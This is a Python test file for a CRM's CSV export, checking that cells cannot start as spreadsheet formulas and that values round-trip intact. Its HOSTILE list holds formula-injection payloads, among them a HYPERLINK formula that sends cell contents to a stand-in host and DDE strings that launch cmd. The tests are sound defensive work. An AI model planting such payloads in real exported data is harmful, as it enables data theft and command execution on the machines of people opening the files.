"""A cell is what somebody wrote, never what their words would make a spreadsheet do."""

import csv
import io

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from crm.csv_rows import as_written, csv_lines, csv_response, safe_cell

FORMULAS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
HOSTILE = [
    '=HYPERLINK("https://mau.example/?"&A1,"Clique")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    '=1+1";=1+1',
]


@pytest.mark.parametrize("written", HOSTILE)
def test_no_cell_begins_as_a_formula(written: str) -> None:
    assert safe_cell(written) == f"'{written}"


@pytest.mark.parametrize(("value", "shown"), [("Ana", "Ana"), (None, ""), (7, "7"), ("a=b", "a=b")])
def test_what_is_harmless_stays_as_it_is(value: object, shown: str) -> None:
    assert safe_cell(value) == shown


@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(st.lists(st.tuples(st.text(max_size=20), st.text(max_size=20)), min_size=1, max_size=3))
def test_what_is_read_back_is_what_was_written_and_never_a_formula(rows: list[tuple[str, str]]) -> None:
    text = "".join(csv_lines(["a", "b"], rows)).removeprefix("\ufeff")
    found = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1:]
    assert len(found) == len(rows)
    for row, line in zip(rows, found, strict=True):
        for written, read in zip(row, line, strict=True):
            assert not read.lstrip().startswith(FORMULAS)
            assert as_written(read) == written


def test_it_is_saved_and_not_shown() -> None:
    answer = csv_response("contatos.csv", ["nome"], [["=1+1"]])
    assert answer.headers["Content-Disposition"] == 'attachment; filename="contatos.csv"'
    assert "'=1+1" in b"".join(answer.streaming_content).decode()  # type: ignore[arg-type] # not an async one
